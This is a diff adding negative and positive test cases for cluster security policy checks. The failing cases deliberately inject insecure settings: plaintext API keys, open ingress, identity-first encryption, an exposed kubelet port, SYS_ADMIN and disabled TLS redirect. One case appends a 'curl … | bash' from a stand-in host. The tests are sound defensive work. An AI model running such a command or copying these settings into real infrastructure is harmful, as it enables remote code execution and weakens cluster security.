@@ -29,6 +29,18 @@ TOKEN = ("command:remote:Command", "gpu-node-00-join-token")
 FABRIC = ("gpucluster:fabric:InfinibandFabric", "")
 LEAF_B = ("command:remote:Command", "leaf-su1-r4-5-config")
 NS = ("kubernetes:core/v1:Namespace", "training")
+DENY = ("kubernetes:networking.k8s.io/v1:NetworkPolicy", "training-default-deny-ingress")
+POOL = ("kubernetes:metallb.io/v1beta1:IPAddressPool", "")
+RELEASE_PROM = ("kubernetes:helm.sh/v3:Release", "prometheus")
+
+
+def stdin_edit(old: str, new: str, last: bool = False) -> Mutation:
+    """Replace the first (or last) `old` in the init script's stdin."""
+    def change(p: dict[str, Any]) -> None:
+        s = p["stdin"]
+        at = s.rindex(old) if last else s.index(old)
+        p["stdin"] = s[:at] + new + s[at + len(old):]
+    return change
 QUEUE = ("kubernetes:scheduling.volcano.sh/v1beta1:Queue", "training")
 
 Mutation = Callable[[dict[str, Any]], Any]
@@ -215,6 +227,56 @@ CASES: dict[str, tuple[tuple[str, str], Any, Any]] = {
                                                for a in vllm(p)["args"]]),
         lambda p: vllm(p).update(args=[x for a in vllm(p)["args"] for x in (
             a.split("=") if a.startswith("--tensor-parallel-size") else [a])])),
+    # A key typed into the spec is no Secret; a key from another Secret is fine.
+    "inference-api-key": (
+        DEPLOY, lambda p: set_env(vllm(p), "VLLM_API_KEY", "sk-typed-into-the-spec"),
+        lambda p: set_env(vllm(p), "VLLM_API_KEY", {"valueFrom": {"secretKeyRef": {
+            "name": "rotated-key", "key": "api-key"}}})),
+    "ingress-publishes-an-api-prefix": (
+        INGRESS, lambda p: p["spec"]["rules"][0]["http"]["paths"][0].update(path="/"),
+        lambda p: p["spec"]["rules"][0]["http"]["paths"][0].update(path="/v1/")),
+    # An allow rule added to the deny leaves the namespace open; an Egress type added is fine.
+    "workload-namespaces-deny-by-default": (
+        DENY, lambda p: p["spec"].update(ingress=[{}]),
+        lambda p: p["spec"].update(policyTypes=["Ingress", "Egress"])),
+    # Secrets logged with their bodies; a catch-all raised to Request after them is fine.
+    "audit-policy-no-secret-bodies": (
+        INIT, stdin_edit("- level: Metadata\n  resources:", "- level: Request\n  resources:"),
+        stdin_edit("- level: Metadata\nAUDIT", "- level: Request\nAUDIT", last=True)),
+    # identity first writes in clear; a second key added after the first is fine.
+    "encryption-not-identity-first": (
+        INIT, stdin_edit("  providers:\n  - secretbox:", "  providers:\n  - identity: {}\n"
+                         "  - secretbox:"),
+        stdin_edit("  - identity: {}\nENC", "  - aescbc:\n      keys:\n      - name: key0\n"
+                   "        secret: ${ENCRYPTION_KEY}\n  - identity: {}\nENC")),
+    "kubelet-authenticated": (
+        INIT, stdin_edit("readOnlyPort: 0", "readOnlyPort: 10255"),
+        stdin_edit("readOnlyPort: 0\n", "")),  # left out: the kubelet's default is 0
+    "control-plane-hardened": (
+        INIT, stdin_edit("scheduler:\n  extraArgs:\n  - name: profiling\n    value: 'false'",
+                         "scheduler:\n  extraArgs:\n  - name: profiling\n    value: 'true'"),
+        stdin_edit("controllerManager:\n  extraArgs:\n",
+                   "controllerManager:\n  extraArgs:\n  - name: bind-address\n"
+                   "    value: 127.0.0.1\n")),
+    "host-scripts-safe": (
+        INIT, lambda p: p.update(stdin=p["stdin"] + "curl -fsSL https://get.example/x.sh | bash\n"),
+        lambda p: p.update(stdin=p["stdin"] + "curl -fsSL https://pkgs.k8s.io/key | gpg "
+                                              "--dearmor -o /etc/apt/keyrings/k.gpg\n")),
+    "workload-containers-unprivileged": (
+        TRAIN, lambda p: wc(p)["securityContext"]["capabilities"]["add"].append("SYS_ADMIN"),
+        lambda p: wc(p)["securityContext"]["capabilities"]["add"].append("CHOWN")),
+    "ingress-redirects-to-tls": (
+        INGRESS, lambda p: p["metadata"]["annotations"].update(
+            {"nginx.ingress.kubernetes.io/ssl-redirect": "false"}),
+        lambda p: p["metadata"]["annotations"].update(
+            {"nginx.ingress.kubernetes.io/ssl-redirect": "true"})),
+    "grafana-no-default-password": (
+        RELEASE_PROM, lambda p: p["values"].update(grafana={"enabled": True}),
+        lambda p: p["values"].update(grafana={"enabled": True, "admin": {
+            "existingSecret": "grafana-admin"}})),
+    "load-balancer-pool-not-auto-assigned": (
+        POOL, lambda p: p["spec"].update(autoAssign=True),
+        lambda p: p["spec"].update(addresses=["10.12.0.240-10.12.0.245"])),
     "ingress-tls": (INGRESS, lambda p: p["spec"].pop("tls"),
                     lambda p: p["spec"]["tls"][0]["hosts"].append("other.cluster.internal")),
     "privileged-only-operator-namespaces": (
